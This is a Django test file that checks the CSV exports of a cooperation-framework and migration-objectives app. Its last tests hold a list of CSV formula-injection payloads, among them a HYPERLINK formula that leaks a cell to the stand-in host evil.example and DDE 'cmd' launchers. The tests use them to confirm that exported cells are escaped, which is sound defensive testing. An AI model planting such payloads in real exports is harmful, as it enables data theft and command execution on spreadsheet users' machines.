import csv
import io

import pytest
from django.urls import reverse

from frameworks.models import Activity, SDGTarget
from tests.frameworks.factories import (
    ActivityFactory,
    CooperationFrameworkFactory,
    JointProgrammeFactory,
    ObjectiveLinkFactory,
    OutcomeFactory,
    OutputFactory,
    ProgressUpdateFactory,
    StrategicPriorityFactory,
    objective,
)
from tests.members.factories import OrganisationFactory

pytestmark = pytest.mark.django_db


def rows(response):
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_mapping_csv_has_one_row_per_link_of_the_framework(client):
    framework = CooperationFrameworkFactory(short_title="UNSDCF Testland")
    priority = StrategicPriorityFactory(framework=framework, number=2, title="Institutions")
    placeholder = OutcomeFactory(priority=priority, number="2.1", short_name="Services")
    official = OutcomeFactory(priority=priority, number="2.2", statement="By 2025, data...")
    output = OutputFactory(outcome=placeholder, number="2.1.3", title="Registration")
    output.sdg_targets.add(SDGTarget.objects.get(code="16.9"))
    ObjectiveLinkFactory(outcome=placeholder, objective=objective(15), rationale="Services.")
    ObjectiveLinkFactory(
        outcome=None,
        output=output,
        objective=objective(4),
        strength="contributing",
        rationale='Birth registration, "documents", and IDs.',
    )
    ObjectiveLinkFactory(outcome=official, objective=objective(1), is_demo=True)
    ObjectiveLinkFactory(objective=objective(2))  # another framework

    data = rows(client.get(reverse("frameworks:mapping-csv"), {"framework": framework.pk}))

    assert len(data) == 3
    by_objective = {row["gcm_objective_number"]: row for row in data}
    assert set(by_objective) == {"15", "4", "1"}
    assert by_objective["15"]["outcome_statement"] == ""
    assert by_objective["15"]["outcome_short_name"] == "Services"
    assert "placeholder" not in str(data).lower()
    assert by_objective["1"]["outcome_statement"] == "By 2025, data..."
    assert by_objective["1"]["demo_data"] == "yes"
    output_row = by_objective["4"]
    assert output_row["outcome_number"] == "2.1"
    assert output_row["output_number"] == "2.1.3"
    assert output_row["strength"] == "Contributing"
    assert output_row["rationale"] == 'Birth registration, "documents", and IDs.'
    assert output_row["sdg_targets"] == "16.9"
    assert output_row["priority_title"] == "Institutions"
    assert output_row["gcm_objective_title"] == objective(4).title


def test_mapping_csv_without_framework_is_404(client):
    assert client.get(reverse("frameworks:mapping-csv")).status_code == 404


def test_work_plan_csv_has_one_row_per_activity(client):
    lead = OrganisationFactory(name="IOM Azerbaijan")
    partners = [OrganisationFactory(name="UNICEF Azerbaijan"), OrganisationFactory(name="SMS")]
    programme = JointProgrammeFactory(title="Migration MPTF joint programme on data")
    activity = ActivityFactory(
        title="Data assessment",
        lead=lead,
        partners=partners,
        gcm_objectives=[objective(1), objective(23)],
        outcomes=[OutcomeFactory(number="2.2")],
        budget="85000.00",
        joint_programme=programme,
    )
    activity.sdg_targets.set(SDGTarget.objects.filter(code__in=["17.18", "10.7"]))
    ProgressUpdateFactory(activity=activity, text="First report.")
    ActivityFactory(title="Solo study", status=Activity.Status.PLANNED)
    ActivityFactory(title="Unpublished", is_published=False)

    data = rows(client.get(reverse("frameworks:activity-csv")))

    assert [row["title"] for row in data] == ["Data assessment", "Solo study"]
    row = data[0]
    assert row["lead_organisation"] == "IOM Azerbaijan"
    assert row["partner_organisations"] == "SMS; UNICEF Azerbaijan"
    assert row["synergy"] == "yes"
    assert row["gcm_objectives"] == "1; 23"
    assert row["unsdcf_outcomes"] == "2.2"
    assert row["sdg_targets"] == "10.7; 17.18"
    assert row["status"] == "Ongoing"
    assert row["budget"] == "85000.00" and row["currency"] == "USD"
    assert row["funding"] == "Migration MPTF joint programme on data"
    assert row["latest_update"].endswith("First report.")
    assert row["url"].endswith(activity.get_absolute_url())
    assert data[1]["synergy"] == "no"
    assert data[1]["partner_organisations"] == ""


def test_work_plan_csv_applies_the_list_filters(client):
    ActivityFactory(title="Planned work", status=Activity.Status.PLANNED)
    ActivityFactory(title="Ongoing work", status=Activity.Status.ONGOING)

    data = rows(client.get(reverse("frameworks:activity-csv"), {"status": "planned"}))

    assert [row["title"] for row in data] == ["Planned work"]


# Every cell that a spreadsheet would run as a formula ("CSV injection"), one per way to start it.
HOSTILE = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_mapping_csv_neutralises_formulas_in_every_text_cell(client, hostile):
    framework = CooperationFrameworkFactory()
    priority = StrategicPriorityFactory(framework=framework, title=hostile)
    outcome = OutcomeFactory(priority=priority, short_name=hostile, statement=hostile)
    output = OutputFactory(outcome=outcome, title=hostile)
    ObjectiveLinkFactory(outcome=None, output=output, objective=objective(4), rationale=hostile)

    (row,) = rows(client.get(reverse("frameworks:mapping-csv"), {"framework": framework.pk}))

    for column in ["priority_title", "outcome_short_name", "outcome_statement", "output_title"]:
        assert row[column] == "'" + hostile, column
    assert row["rationale"] == "'" + hostile
    assert row["gcm_objective_number"] == "4"


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_work_plan_csv_neutralises_formulas_in_every_text_cell(client, hostile):
    ActivityFactory(
        title=hostile,
        lead=OrganisationFactory(name=hostile),
        partners=[OrganisationFactory(name=hostile + " partner")],
        funding_source=hostile,
        budget="1500.00",
    )

    (row,) = rows(client.get(reverse("frameworks:activity-csv")))

    for column in ["title", "lead_organisation", "funding"]:
        assert row[column] == "'" + hostile, column
    assert row["partner_organisations"] == "'" + hostile + " partner"
    assert row["budget"] == "1500.00"  # numbers stay numbers
